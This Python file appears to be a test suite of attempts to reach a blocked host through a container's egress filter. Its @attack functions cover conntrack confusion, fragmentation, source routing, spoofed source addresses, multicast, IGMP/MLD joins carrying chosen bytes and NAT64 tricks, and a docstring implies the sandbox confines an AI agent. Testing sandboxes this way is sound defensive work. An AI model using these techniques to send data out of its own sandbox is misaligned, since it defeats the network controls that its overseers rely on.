"""Packets: to a blocked host in every shape that the kernel gives them without more rights."""
import select
import socket
import struct

from tools import ALLOWED, ALLOWED6, BLOCKED, BLOCKED6, MARK, PATIENCE, WAIT, attack, code, tcp, udp


@attack
def connect():
    return tcp(BLOCKED, 443)


@attack
def connect_ipv6():
    return tcp(BLOCKED6, 443, socket.AF_INET6)


@attack
def connect_mapped():
    return tcp("::ffff:" + BLOCKED, 443, socket.AF_INET6)


@attack
def sendto():
    return udp(BLOCKED, 9999)


@attack
def sendto_ipv6():
    return udp(BLOCKED6, 9999, family=socket.AF_INET6)


@attack
def sendto_mapped():
    return udp("::ffff:" + BLOCKED, 9999, family=socket.AF_INET6)


@attack
def sendmsg_unconnected():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.sendmsg([MARK[:4], MARK[4:]], [], 0, (BLOCKED, 9999))
        s.recv(99)
        return "open"


@attack
def sendmsg_elsewhere():
    """Connected to the allowed host; each message has another address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE)
        s.connect((ALLOWED, 9999))
        s.send(b"hello")
        s.recv(99)
        s.sendmsg([MARK], [], 0, (BLOCKED, 9999))
        return "sent"


@attack
def reconnect():
    """The port and the connection of before, led elsewhere: conntrack knows the one, and not the other."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE)
        s.connect((ALLOWED, 9999))
        s.send(b"hello")
        s.recv(99)
        s.settimeout(WAIT)
        s.connect((BLOCKED, 9999))
        s.send(MARK)
        s.recv(99)
        return "open"


@attack
def quic():
    return udp(BLOCKED, 443, b"\xc0" + MARK + bytes(1188))


@attack
def tcp_fast_open():
    with socket.socket() as s:
        s.settimeout(PATIENCE)
        try:
            s.sendto(MARK, 0x20000000, (BLOCKED, 443))  # MSG_FASTOPEN
        except BlockingIOError:
            pass  # the first connection has no cookie yet
        select.select([], [s], [], PATIENCE)
        failure = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if failure:
            return code(failure)
        s.getpeername()
        return "open"


@attack
def multipath_tcp():
    return tcp(BLOCKED, 443, protocol=262, wait=1.5)


@attack
def sctp():
    with socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132) as s:
        s.settimeout(PATIENCE)
        s.connect((BLOCKED, 443))
        return "open"


@attack
def udplite():
    return udp(BLOCKED, 9999, protocol=136)


@attack
def udplite_to_allowed():
    """What a list allows is TCP and UDP, not whatever else has ports."""
    return udp(ALLOWED, 9999, protocol=136)


@attack
def dccp():
    with socket.socket(socket.AF_INET, 6, 33) as s:
        s.settimeout(PATIENCE)
        s.connect((BLOCKED, 443))
        return "open"


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data[:len(data) // 2 * 2])) + (data[-1] << 8 if len(data) % 2 else 0)
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def echo_request(data):
    head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
    return struct.pack("!BBHHH", 8, 0, checksum(head + data), 1, 1) + data


@attack
def ping():
    """Data in an echo request, from a ping socket, which Docker allows to everybody."""
    return udp(BLOCKED, 0, echo_request(MARK), protocol=1)


@attack
def ping_allowed():
    return udp(ALLOWED, 0, echo_request(MARK), protocol=1)


@attack
def ping_ipv6():
    return udp(BLOCKED6, 0, struct.pack("!BBHHH", 128, 0, 0, 1, 1) + MARK, socket.AF_INET6, protocol=58)


@attack
def fragments():
    """Larger than the line takes, IP_MTU_DISCOVER off: only the first fragment has ports."""
    return udp(BLOCKED, 9999, MARK * 500, options=[(socket.IPPROTO_IP, 10, 0)])


@attack
def fragments_ipv6():
    return udp(BLOCKED6, 9999, MARK * 500, socket.AF_INET6, options=[(socket.IPPROTO_IPV6, 23, 0)])


@attack
def record_route():
    return udp(BLOCKED, 9999, options=[(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x07\x0b\x04" + bytes(8) + b"\x00")])


@attack
def source_route():
    """The packet goes to the allowed host, which is to pass it on to the blocked one: a loose source route."""
    option = b"\x83\x07\x04" + socket.inet_aton(ALLOWED) + b"\x00"
    return udp(BLOCKED, 9999, options=[(socket.IPPROTO_IP, socket.IP_OPTIONS, option)], answer=False)


@attack
def routing_header():
    """IPv6's source route of today (RFC 8754): the blocked host is the segment that the packet has come to."""
    header = struct.pack("!BBBBBBH", 0, 2, 4, 0, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, BLOCKED6)
    return udp(BLOCKED6, 9999, family=socket.AF_INET6, options=[(socket.IPPROTO_IPV6, 57, header)], answer=False)


@attack
def hop_by_hop_options():
    header = struct.pack("!BBBB4s", 0, 0, 0x1e, 4, MARK[:4])
    return udp(BLOCKED6, 9999, family=socket.AF_INET6, options=[(socket.IPPROTO_IPV6, 54, header)])


@attack
def destination_options():
    header = struct.pack("!BBBB4s", 0, 0, 0x1e, 4, MARK[:4])
    return udp(BLOCKED6, 9999, family=socket.AF_INET6, options=[(socket.IPPROTO_IPV6, 59, header)])


@attack
def type_of_service():
    return udp(BLOCKED, 9999, options=[(socket.IPPROTO_IP, socket.IP_TOS, 0xff)])


@attack
def mark():
    return udp(BLOCKED, 9999, options=[(socket.SOL_SOCKET, 36, 1)])


@attack
def bind_to_device():
    return udp(BLOCKED, 9999, options=[(socket.SOL_SOCKET, 25, b"eth0\0")])


@attack
def unicast_interface():
    """IP_UNICAST_IF chooses the interface without any right."""
    index = struct.pack("!I", socket.if_nametoindex("eth0"))
    return udp(BLOCKED, 9999, options=[(socket.IPPROTO_IP, 50, index)])


@attack
def transparent():
    return udp(BLOCKED, 9999, options=[(socket.IPPROTO_IP, 19, 1)])


@attack
def from_loopback():
    """The sender's address is loopback's; the way is not."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.bind(("127.0.0.1", 0))
        s.sendto(MARK, (BLOCKED, 9999))
        s.recv(99)
        return "open"


@attack
def from_port_53():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.bind(("0.0.0.0", 53))
        s.sendto(MARK, (BLOCKED, 9999))
        s.recv(99)
        return "open"


def disguise(family, level, freebind, blocked, via):
    """
    A packet as if from the blocked host, to ourselves or to the allowed one, so that conntrack takes what goes there for
    its answer.
    """
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.connect((via, 9))
        here = s.getsockname()[0]
    outcome = None
    for to, sender in (((here, 5555), (here, 5555)), ((via, 9999), (via, 9999))):
        with socket.socket(family, socket.SOCK_DGRAM) as s, socket.socket(family, socket.SOCK_DGRAM) as answer:
            try:
                s.setsockopt(level, freebind, 1)
                s.bind((blocked, 9999))
                s.sendto(b"hello", to)
            except OSError as failure:
                outcome = failure
            try:
                answer.settimeout(WAIT)
                answer.setsockopt(level, freebind, 1)
                answer.bind(sender)
                answer.sendto(MARK, (blocked, 9999))
                answer.recv(99)
                return "open"
            except OSError as failure:
                outcome = failure
    raise outcome


@attack
def disguised():
    return disguise(socket.AF_INET, socket.IPPROTO_IP, 15, BLOCKED, ALLOWED)


@attack
def disguised_ipv6():
    return disguise(socket.AF_INET6, socket.IPPROTO_IPV6, 78, BLOCKED6, ALLOWED6)


@attack
def zero_copy():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.setsockopt(socket.SOL_SOCKET, 60, 1)
        s.sendmsg([MARK * 90], [], 0x4000000, (BLOCKED, 9999))  # MSG_ZEROCOPY
        s.recv(2048)
        return "open"


@attack
def segmented():
    """One call, many datagrams (UDP_SEGMENT)."""
    return udp(BLOCKED, 9999, MARK * 100, options=[(17, 103, 110)])


@attack
def multicast():
    return udp("224.0.0.251", 5353, answer=False)


@attack
def multicast_far():
    return udp("239.1.2.3", 9999, options=[(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 32)], answer=False)


@attack
def multicast_ipv6():
    return udp("ff02::fb%eth0", 5353, family=socket.AF_INET6, answer=False)


@attack
def multicast_far_ipv6():
    return udp("ff0e::1234", 9999, family=socket.AF_INET6, options=[(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex("eth0"))], answer=False)


@attack
def join_group():
    """The kernel tells the line by itself which group is joined: IGMP."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.66.66.66") + bytes(4))
        return "sent"


@attack
def join_group_ipv6():
    """The same by MLD, whose reports name the group: twelve bytes of the agent's choice."""
    index = struct.pack("@I", socket.if_nametoindex("eth0"))
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, b"\xff\x12\x00\x00\x00" + MARK + index)
        return "sent"


@attack
def broadcast():
    return udp("255.255.255.255", 9999, options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)], answer=False)


@attack
def broadcast_of_the_network():
    return udp("172.17.255.255", 9999, options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)], answer=False)


@attack
def reserved_address():
    return udp("240.0.0.1", 9999, answer=False)


@attack
def zero_network():
    return udp("0.1.2.3", 9999, answer=False)


@attack
def teredo_and_6to4():
    """IPv6 in forms that gateways translate to IPv4: NAT64, 6to4, compatible."""
    last = None
    for address in ("64:ff9b::" + BLOCKED, "2002:9765:145::1", "::" + BLOCKED):
        try:
            return udp(address, 9999, family=socket.AF_INET6, answer=False)
        except OSError as failure:
            last = failure
    raise last
